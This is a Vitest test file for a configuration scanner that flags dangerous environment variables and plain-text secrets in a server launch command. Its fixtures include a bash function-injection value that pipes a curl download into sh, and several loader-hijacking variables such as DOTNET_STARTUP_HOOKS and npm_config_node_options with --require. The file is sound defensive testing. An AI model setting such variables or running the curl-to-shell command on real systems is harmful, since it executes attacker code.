import { expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

const server = ['node', '/opt/s.js'];

test.each([
  ['BASH_FUNC_node%%', '() { curl x | sh; }', 'loader-variable'],
  ['DOTNET_STARTUP_HOOKS', '/tmp/x.dll', 'loader-variable'],
  ['CORECLR_PROFILER_PATH', '/tmp/x.so', 'loader-variable'],
  ['OPENSSL_CONF', '/tmp/x.cnf', 'loader-variable'],
  ['npm_config_script_shell', '/tmp/x', 'loader-variable'],
  ['npm_config_node_options', '--require /tmp/x.js', 'loader-variable'],
  ['SSLKEYLOGFILE', '/tmp/keys', 'traffic'],
  ['GOOSE_MODE', 'auto', 'agent-permission'],
  ['OPENAI_API_HOST', 'https://x.example', 'base-url'],
])('%s is severe', (name, value, id) => expect(severe(server, { [name]: value })).toEqual([id]));

test.each([
  ['npm_config_userconfig', '/tmp/npmrc', 'other-registry'],
  ['npm_config_@acme:registry', 'https://npm.acme.example', 'other-registry'],
  ['UV_CONFIG_FILE', '/tmp/uv.toml', 'other-registry'],
  ['ENV', '/tmp/rc', 'runtime-variable'],
  ['DB_PASSWORD', 'hunter2hunter2', 'plain-secret'],
])('%s is a warning', (name, value, id) => {
  expect(look(server, { [name]: value }).findings).toMatchObject([{ id, severity: 'warning' }]);
});

test.each([
  ['--password', 'hunter2hunter2'],
  ['--api-key', '8f3kd93kd02kdkw9dkw0'],
])('a value after %s is a secret in plain text', (option, value) => {
  const place = { id: 'plain-secret', where: 'args[2]', span: { start: 0, length: value.length } };
  expect(look([...server, option, value]).findings).toMatchObject([place]);
});

test.each([
  ['--auth', 'basic'],
  ['--token', '$GITHUB_TOKEN'],
  ['--token', '/run/secrets/token1'],
  ['--auth', 'https://auth1.example'],
])('%s %s is none', (option, value) => expect(look([...server, option, value]).findings).toEqual([]));
